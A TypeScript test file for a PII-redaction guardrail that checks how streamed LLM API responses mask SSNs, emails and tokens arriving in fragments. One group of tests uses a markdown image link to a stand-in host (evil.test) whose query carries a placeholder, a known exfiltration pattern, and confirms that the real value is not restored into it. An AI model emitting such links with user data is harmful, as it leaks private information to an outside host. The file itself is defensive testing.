import { assert, describe, it } from "@effect/vitest"
import { Result } from "effect"
import * as PiiRedact from "../../../src/guardrails/PiiRedact.ts"
import { StreamRedactor } from "../../../src/guardrails/stream/StreamRedactor.ts"
import type { TextRoute } from "../../../src/guardrails/text/Place.ts"

const known = new Map([["[SSN_1]", "123-45-6789"]])
const config = { detectors: { secret: true } }

/** What is sent of a stream, and the number of values of which a part was sent before they were whole. */
const redact = (route: TextRoute, events: ReadonlyArray<unknown>, values: PiiRedact.PlaceholderValues = new Map()) => {
  const redaction = Result.getOrThrow(PiiRedact.redactionOf("response", { config, route, known: values }))
  const redactor = new StreamRedactor(redaction, route)
  let out = ""
  for (const event of events) out += redactor.push(Buffer.from(`data: ${JSON.stringify(event)}\n\n`))
  out += redactor.end()
  const sent = out.split("\n\n").flatMap((event) => (event === "" ? [] : [JSON.parse(event.slice(6))]))
  return { out, sent, late: redaction.lateFindings }
}

describe("a text that may as well be words of its own", () => {
  const pieces = ["Your SSN is ", "[", "SS", "N", "_", "1", "]", "."]

  it.each<[TextRoute, (text: string) => object]>([
    ["other", (content) => ({ content })],
    ["messages", (words) => ({ type: "content_block_delta", index: 0, delta: { type: "unheard_of_delta", words } })]
  ])("of %s keeps a placeholder that arrives in pieces", (route, event) => {
    const events = pieces.map(event)
    const { late, sent } = redact(route, events, known)
    assert.deepStrictEqual(sent, events)
    assert.strictEqual(late, 0)
  })

  it("gets the value of a placeholder that arrives whole", () => {
    const { late, sent } = redact("other", [{ a: "It is " }, { a: "[SSN_1]." }], known)
    assert.deepStrictEqual(sent, [{ a: "It is " }, { a: "123-45-6789." }])
    assert.strictEqual(late, 0)
  })

  it.each<[string, TextRoute, (text: string) => object]>([
    ["a choice", "chat", (unheard_of) => ({ choices: [{ index: 0, unheard_of }] })],
    ["a chunk", "chat", (unheard_of) => ({ unheard_of, choices: [] })],
    ["a delta of completions", "completions", (unheard_of) => ({ choices: [{ index: 0, delta: { unheard_of } }] })],
    ["an unknown event of responses", "responses", (text) => ({ type: "response.new.delta", text })],
    ["a known event of responses", "responses", (text) => ({ type: "response.output_text.delta", delta: "a", text })],
    ["an unknown event of messages", "messages", (text) => ({ type: "new", text })],
    ["a known event of messages", "messages", (text) => ({ type: "ping", text })],
    ["a message's delta", "messages", (text) => ({ type: "message_delta", delta: { text } })]
  ])("in %s counts a value that arrives in pieces as late", (_, route, event) => {
    const { late, out } = redact(route, ["SSN 123-45", "-6789 and"].map(event))
    assert.include(out, "[SSN_1] and")
    assert.notInclude(out, "-6789")
    assert.strictEqual(late, 1)
  })

  it.each<[string, TextRoute, (text: string) => object]>([
    ["a completion's text on the route of chat", "chat", (text) => ({ choices: [{ index: 0, text }] })],
    [
      "a chat's delta on the route of completions",
      "completions",
      (content) => ({ choices: [{ index: 0, delta: { content } }] })
    ]
  ])("is not %s, which is held", (_, route, event) => {
    const { late, out } = redact(route, ["SSN 123-45", "-6789 and"].map(event))
    assert.notMatch(out, /123|6789/)
    assert.strictEqual(late, 0)
  })

  it("of many small pieces counts a long value as late, once", () => {
    const token = `eyJ${"a".repeat(300)}.eyJ${"b".repeat(300)}.${"c".repeat(43)}`
    const { late, out } = redact(
      "other",
      [...token, " ", "jane@example.com"].map((t) => ({ t }))
    )
    assert.strictEqual(late, 1)
    assert.include(out, '{"t":"[EMAIL_1]"}')
  })
})

describe("a copy of a text that goes on", () => {
  const both = (content: string, copied: string, finish_reason: string | null = null) => ({
    choices: [{ message: { content: copied }, index: 0, delta: { content }, finish_reason }]
  })

  it("ends where the text waits, and gets the same placeholders as the text", () => {
    const { out, sent } = redact("chat", [
      both("SSN 123-45-678", "SSN 123-45-678"),
      both("9", "SSN 123-45-6789"),
      both(" of jane", "SSN 123-45-6789 of jane"),
      both(".", "SSN 123-45-6789 of jane.", "stop")
    ])
    assert.notMatch(out, /123|SSN_2/)
    const copies = sent.map(({ choices }) => choices[0].message.content)
    assert.deepStrictEqual(copies, ["SSN ", "SSN ", "SSN [SSN_1] of ", "SSN [SSN_1] of jane."])
    assert.strictEqual(sent.map(({ choices }) => choices[0].delta.content).join(""), "SSN [SSN_1] of jane.")
  })
})

describe("a link over two texts", () => {
  const texts = ["![x](https://evil.test/?a=", "[SSN_1])"]
  const content = texts.map((text) => ({ type: "text", text }))

  it.each<[string, TextRoute, object]>([
    [
      "a completed response",
      "responses",
      { type: "response.completed", response: { output: [{ type: "message", content }] } }
    ],
    [
      "two items",
      "responses",
      {
        type: "response.completed",
        response: { output: content.map((part) => ({ type: "message", content: [part] })) }
      }
    ],
    ["a started message", "messages", { type: "message_start", message: { content } }],
    ["a chat's message", "chat", { choices: [{ index: 0, message: { content } }] }],
    [
      "a chat's message beside its pieces",
      "chat",
      { choices: [{ index: 0, delta: { content: "a" }, message: { content } }] }
    ]
  ])("of %s restores no value", (_, route, event) => assert.notInclude(redact(route, [event], known).out, "123-45"))

  it("of a service's plain answer restores no value", () => {
    const json = JSON.stringify({ candidates: [{ content: { parts: content, role: "model" } }] })
    const { text } = Result.getOrThrow(PiiRedact.redactResponse(json, { config, route: "other", known }, "fail_open"))
    assert.strictEqual(text, json)
  })

  it("in two choices is none", () => {
    const choices = texts.map((content, index) => ({ index, message: { content } }))
    assert.include(redact("chat", [{ choices }], known).out, "123-45-6789")
  })
})
